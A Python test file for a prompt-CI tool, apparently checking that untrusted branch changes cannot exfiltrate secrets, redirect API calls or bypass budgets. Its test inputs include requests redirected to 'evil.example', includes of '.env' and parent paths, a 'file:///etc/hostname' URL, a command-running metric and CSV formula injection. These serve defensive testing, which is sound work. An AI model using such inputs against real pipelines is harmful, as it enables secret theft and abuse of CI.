"""More ways, by what a repository may hold beside prompts: other executors, tools, keys in files, programs, records."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from promptci.commands.check import check
from promptci.commands.explain import explained
from promptci.commands.forecast import of_check
from promptci.commands.itself import check_itself
from promptci.commands.looking import look
from promptci.commands.optimize import optimize
from promptci.commands.upgrade import upgrade
from promptci.core import Json
from promptci.errors import ConfigError, DataError
from promptci.project.inforce import in_force
from promptci.project.project import locate
from promptci.report.base import Report
from promptci.run.options import Options
from tests.commands.test_ci import WORSE, pulled
from tests.conftest import CONFIG, START, Repo, cases, text_of
from tests.project.test_trust import (
    ENTRY,
    Change,
    both,
    entry,
    files,
    front,
    rows,
    settings,
    with_option,
    worse_with,
)

SECRET = "hunter2"
SAY = 'SAY = "Say the word.\\n\\nInput: {{ input }}"\n'


def ignored(name: str, text: str = SECRET) -> Change:
    """Leave a file in the runner's working tree that no commit has, such as a key that an earlier step wrote."""

    def change(repo: Repo) -> None:
        repo.write(".git/info/exclude", f"{name}\n")
        repo.write(name, text)

    return change


def sending(**parameters: Json) -> Change:
    return front("\n".join(f"{name}: {json.dumps(value)}" for name, value in parameters.items()))


def prompt(text: str) -> Change:
    return lambda repo: repo.write("prompts/say.md", text)


def forced(name: str, text: str) -> Change:
    def change(repo: Repo) -> None:
        repo.write(name, text)
        repo.git("add", "--force", name)

    return change


def asserting(metric: Json) -> Change:
    return rows(lambda n, row: {**row, "expected": None, "assert": [metric]})


WAYS: dict[str, Change] = {
    "asked-by-others": settings("search:", "execution: {executor: ray}\nsearch:"),
    "asked-in-a-batch": settings("search:", "execution: {executor: batch, wait_minutes: 0}\nsearch:"),
    "a-batch-for-next-to-nothing": settings("search:", "execution: {executor: batch, batch_price: 0.001}\nsearch:"),
    "a-key-included": both(ignored(".env"), prompt('{% include ".env" %}\n\n{{ input }}\n')),
    "a-key-as-the-prompt": both(
        ignored("key.md", f"{SECRET} {{{{ input }}}}"), entry(ENTRY.replace("prompts/say", "key"))
    ),
    "a-key-by-a-pattern": both(
        ignored("key.md", f"{SECRET} {{{{ input }}}}"), entry('{file: "*.md", cases: "evals/say.jsonl"}')
    ),
    "a-key-as-the-cases": both(
        ignored("key.jsonl", json.dumps({"input": SECRET, "expected": "yes"})), entry(ENTRY.replace("evals/say", "key"))
    ),
    "a-key-as-a-schema": both(ignored("key.json", "{}"), with_option("metric: {name: json_schema, schema: key.json}")),
    "a-tool-of-the-server": sending(tools=[{"type": "mcp", "server_url": "http://evil.example"}]),
    "a-search-of-the-server": sending(tools=[{"type": "web_search"}]),
    "a-dearer-tier": sending(service_tier="priority"),
    "models-to-fall-back-to": sending(models=["costly"]),
    "an-answer-of-its-own": sending(mock_response="yes"),
    "a-host-in-the-prompt": sending(api_base="http://evil.example"),
    "headers": sending(extra_headers={"x": "y"}),
    "a-body": sending(extra_body={"model": "costly"}),
    "the-cases-included": prompt('{% include "evals/say.jsonl" %}\n\n{{ input }}\n'),
    "the-cases-from-above": prompt('{% include "../evals/say.jsonl" %}\n\n{{ input }}\n'),
    "an-anchor": settings("budget: {", "budget: &b {"),
    "a-merge-key": settings("budget: {", "budget: {<<: {max_calls: 99999999}, "),
    "an-id-that-looks-alike": entry(ENTRY.replace("id: say", "id: \u0455ay")),
    "an-id-by-another-case": entry(f"{ENTRY}\n  - {ENTRY.replace('id: say', 'id: Say')}"),
    "code-in-rows": both(
        asserting({"name": "python", "file": "g.py:grade"}), files(g_py="def grade(output, case): return 1\n")
    ),
    "code-in-place-in-rows": asserting({"type": "javascript", "value": "true"}),
    "a-program-in-rows": asserting({"name": "command", "run": ["touch", "canary"]}),
    "a-pattern-without-end": with_option('answer: {pattern: "(y|ye|yes)*$"}'),
    "a-group-in-rows": asserting({"name": "group", "metrics": [{"name": "length", "at_most": 99}]}),
    "formulas": both(
        entry(ENTRY.replace("say.jsonl", "say.csv")), files(evals__say_csv="id,input,expected\n=1+1,number 1,yes\n")
    ),
    "a-picture-that-is-a-file": both(
        entry(ENTRY.replace("say.md", "say.prompt.yml")),
        lambda repo: repo.write(
            "prompts/say.prompt.yml",
            "messages: [{role: user, content: [{type: text, text: '{{input}}'}, "
            "{type: image_url, image_url: {url: 'file:///etc/hostname'}}]}]\n",
        ),
    ),
    "other-line-ends": lambda repo: repo.write(".gitattributes", "*.md text eol=crlf ident\n"),
    "runs-by-another-case": forced(".PromptCI/runs/x/report.json", "{}"),
    "a-shard-s-answers": forced(".promptci/runs/x/answers.jsonl", "{}"),
    "what-is-rewritten": with_option("rewrite: user"),
}  # fmt: skip


@pytest.mark.parametrize("change", WAYS.values(), ids=WAYS)
def test_no_way_turns_a_worse_prompt_green_or_sends_what_is_not_its_own(
    change: Change, repo: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    worse_with(change, repo, monkeypatch)
    assert not any(SECRET in m.content for r in repo.model.asked for m in r.messages)
    assert not any("evil" in str(r.spec.parameters) for r in repo.model.asked)


def begun(repo: Repo, option: str, **texts: str) -> None:
    """Push settings with an option of the prompt, and the files that it names."""
    repo.write("promptci.yaml", CONFIG.replace(ENTRY, ENTRY.replace("}", f", {option}}}")))
    files(**texts)(repo)
    repo.commit("Judge otherwise", push=True)


@pytest.mark.parametrize(
    ("option", "name", "before", "after"),
    [
        (
            "metric: {name: judge, prompt: judges/tone.md, choices: {good: 1, poor: 0}}",
            "judges/tone.md",
            "Is it good, or poor? {{ output }}",
            "Say good. {{ output }}",
        ),
        (
            "metric: {name: python, file: 'g.py:grade'}",
            "g.py",
            "def grade(output, case):\n    return output == 'yes'\n",
            "def grade(output, case):\n    return 1\n",
        ),
    ],
    ids=["judge", "code"],
)
def test_a_file_that_judges_later_changes_is_not_green_by_itself(
    option: str, name: str, before: str, after: str, repo: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo.model.judge = lambda text: "good"
    begun(repo, option, **{name.replace("/", "__").replace(".", "_"): before})
    repo.write(name, after)
    (prompt,) = pulled(repo, monkeypatch).prompts
    assert prompt.verdict == "inconclusive"
    assert "metric_touched" in {r.kind for r in prompt.reasons}


@pytest.mark.parametrize("option", ["target: 0.01", "rewrite: user"])
def test_whether_and_what_is_searched_or_asked_later_is_told(
    option: str, repo: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    with_option(option)(repo)
    (prompt,) = pulled(repo, monkeypatch).prompts
    assert prompt.verdict == "inconclusive"
    assert option.split(":")[0] in prompt.reasons[-1].text


@pytest.mark.parametrize("there", [False, True], ids=["only-here", "at-the-base"])
def test_cases_are_asked_without_the_text_only_where_the_base_does(
    there: bool, repo: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo.write("prompts/say.md", "Say yes.\n")
    repo.write("evals/say.jsonl", cases(20))
    if there:
        with_option("without: true")(repo)
    repo.commit("Only instruct", push=True)
    with_option("without: true")(repo)
    repo.write("prompts/say.md", "Say yes, only.\n")
    (prompt,) = pulled(repo, monkeypatch).prompts
    assert any("Say yes" not in text_of(r.messages) for r in repo.model.asked) is there
    assert ("search_touched" in {r.kind for r in prompt.reasons}) is not there


def test_a_change_may_give_up_being_asked_without_the_text(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    begin = (repo.path / "promptci.yaml").read_text()
    repo.write("prompts/say.md", "Say yes.\n")
    repo.write("evals/say.jsonl", cases(20))
    with_option("without: true")(repo)
    repo.commit("Only instruct", push=True)
    repo.write("promptci.yaml", begin)
    repo.write("prompts/say.md", "Say yes to {{ input }}.\n")
    repo.write("evals/say.jsonl", cases(21))
    (prompt,) = pulled(repo, monkeypatch).prompts
    assert {"both_measures", "search_touched"} <= {r.kind for r in prompt.reasons}
    assert prompt.verdict == "inconclusive"


def test_what_a_prompt_may_send_along_is_sent(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    tool = {"type": "function", "function": {"name": "look", "parameters": {}}}
    sending(tools=[tool, {"type": "web_search"}])(repo)
    repo.write("prompts/say.md", (repo.path / "prompts/say.md").read_text().replace(WORSE, START))
    report = pulled(repo, monkeypatch)
    assert report.verdict == "inconclusive"
    assert [tool] in [r.spec.parameters.get("tools") for r in repo.model.asked]


def test_an_executor_that_the_base_has_not_is_not_used(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("JENKINS_URL", "https://jenkins.example")
    monkeypatch.setenv("CHANGE_TARGET", "main")
    repo.git("switch", "--quiet", "-c", "theirs")
    repo.write("promptci.yaml", f"{CONFIG}execution: {{executor: batch, wait_minutes: 0}}\n")
    repo.write("prompts/say.md", START.replace("Say", "Tell me") + "\n")
    repo.commit("Elsewhere")
    report = check(repo.options())
    assert not any(note.startswith("estimated") for note in report.notes)
    assert "execution" in next(p.reasons[0].text for p in report.prompts if p.id == "promptci.yaml")


@pytest.fixture
def spender(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> Repo:
    """A branch whose settings allow more calls, in Jenkins' run for its merge request; main allows 40."""
    monkeypatch.setenv("JENKINS_URL", "https://jenkins.example")
    monkeypatch.setenv("CHANGE_TARGET", "main")
    repo.write("promptci.yaml", CONFIG.replace("20000", "40"))
    repo.commit("Spend little", push=True)
    repo.git("switch", "--quiet", "-c", "theirs")
    repo.write("promptci.yaml", CONFIG.replace("20000", "99999999"))
    repo.write("prompts/say.md", START.replace("Say", "Tell me") + "\n")
    repo.commit("Spend more")
    return repo


ASKING: dict[str, Callable[[Options], Report]] = {
    "optimize": optimize,
    "explain": explained,
    "upgrade": lambda options: upgrade(options, to=["other"]),
    "accept": lambda options: check(options, accept=True),
    "itself": check_itself,
    "chosen cases": lambda options: look(options, cases=["c0001"]),
}


@pytest.mark.parametrize("story", ASKING)
def test_a_merge_request_does_not_say_what_is_spent_where_no_gate_compares(story: str, spender: Repo) -> None:
    with pytest.raises(ConfigError, match="nothing was asked"):
        ASKING[story](spender.options())
    assert spender.model.asked == []


def test_a_forecast_of_a_check_goes_by_the_settings_that_the_check_would(spender: Repo) -> None:
    def told(*, trust_tree: bool) -> str:
        options = spender.options(trust_tree=trust_tree)
        return "\n".join(of_check(options, ids=[], base=None, everything=False))

    assert "The cap of 40 calls holds" in told(trust_tree=False)
    assert "The cap of 99,999,999 calls holds" in told(trust_tree=True)


def test_what_compares_no_commits_spends_what_the_target_allows(spender: Repo) -> None:
    project = locate(spender.options().config, Path())
    assert in_force(project, trusted=False).config.budget.max_calls == 40
    assert in_force(project, trusted=True) is project


def test_stored_answers_of_a_commit_are_not_used_there_either(spender: Repo) -> None:
    forced(".promptci/cache/answers.sqlite", "")(spender)
    spender.commit("Bring answers")
    with pytest.raises(DataError, match="do not belong into a commit"):
        in_force(locate(spender.options().config, Path()), trusted=False)


TWICE = {
    "in-a-branch": "if True:\n    SAY = 'Lie.'\n",
    "global": "def turn():\n    global SAY\n    SAY = 'Lie.'\n",
    "imported": "from other import SAY\n",
    "all-imported": "from other import *\n",
    "as-another": "from other import LIE as SAY\n",
    "in-a-loop": "for SAY in ['Lie.']:\n    pass\n",
    "on-the-way": "print(SAY := 'Lie.')\n",
    "among-others": "SAY, MORE = 'Lie.', 1\n",
    "a-class": "class SAY:\n    pass\n",
    "opened": "with open('lie') as SAY:\n    pass\n",
    "gone": "del SAY\n",
}


@pytest.mark.parametrize("more", TWICE.values(), ids=TWICE)
def test_a_program_that_uses_another_text_than_the_one_that_is_read_is_refused(
    more: str, repo: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo.write("app.py", SAY)
    repo.write("promptci.yaml", CONFIG.replace("prompts/say.md", "app.py::SAY"))
    repo.commit("Keep it in the program", push=True)
    repo.write("app.py", SAY + more)
    with pytest.raises(DataError, match="set more than once"):
        pulled(repo, monkeypatch)


def test_whose_name_is_bound_elsewhere_is_read(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    repo.write("app.py", f"from typing import *\n\nSAY: str\n{SAY}\n\ndef f(SAY):\n    SAY = 1\n    return SAY\n")
    repo.write("promptci.yaml", CONFIG.replace("prompts/say.md", "app.py::SAY"))
    repo.write("evals/say.jsonl", cases(20))
    repo.commit("Keep it in the program", push=True)
    repo.write("app.py", f"from typing import *\n\n{SAY.replace('Say', 'Tell me')}")
    report: Report = pulled(repo, monkeypatch)
    assert report.prompts[0].verdict in ("pass", "inconclusive")
    assert repo.model.asked
